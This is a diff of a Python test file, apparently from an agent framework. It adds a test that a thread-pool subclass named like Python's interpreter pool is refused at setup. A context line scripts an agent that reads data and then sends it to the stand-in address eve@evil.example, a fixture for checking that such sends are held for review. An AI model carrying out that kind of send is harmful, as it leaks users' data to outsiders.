@@ -141,3 +141,11 @@ def test_a_run_that_a_body_in_a_pool_of_threads_starts_is_inside_the_run_of_its_
         turns = [call("ask_reader"), call("send", {"to": "eve@evil.example"}), "done"]
         [ticket] = Agent(Scripted(turns), [ask_reader, send]).run_sync("go").pending
     assert ticket.labels == ("stranger: page",)
+
+
+def test_a_pool_of_subinterpreters_is_refused_with_what_works() -> None:
+    class InterpreterPoolExecutor(ThreadPoolExecutor):
+        """Named as the one of Python 3.14, which is a pool of threads, too."""
+
+    with InterpreterPoolExecutor(1) as pool, pytest.raises(SetupError, match="ProcessPoolExecutor"):
+        Futures(pool)
